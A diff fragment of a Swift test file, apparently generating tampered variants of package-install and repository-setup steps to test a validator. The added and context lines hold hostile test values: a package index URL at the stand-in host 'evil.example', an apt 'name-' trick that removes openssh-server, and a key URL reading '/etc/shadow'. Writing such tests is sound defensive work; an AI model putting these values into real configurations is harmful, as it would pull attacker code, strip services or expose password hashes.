@@ -41,10 +41,14 @@ import Testing
             changed.action = .tool(parameters)
             variants.append(changed)
         case .packages(var parameters):
+            var removing = parameters
+            removing.packages.append((parameters.packages.first ?? "openssh-server") + "-")  // apt reads `name-` as remove
             parameters.extraArguments = ["--index-url=http://evil.example" + payload]
-            changed = step
-            changed.action = .packages(parameters)
-            variants.append(changed)
+            for action in [StepAction.packages(parameters), .packages(removing)] {
+                changed = step
+                changed.action = action
+                variants.append(changed)
+            }
         case .repoSetup(var parameters):
             var other = parameters
             parameters.keyURL = "file:///etc/shadow" + payload
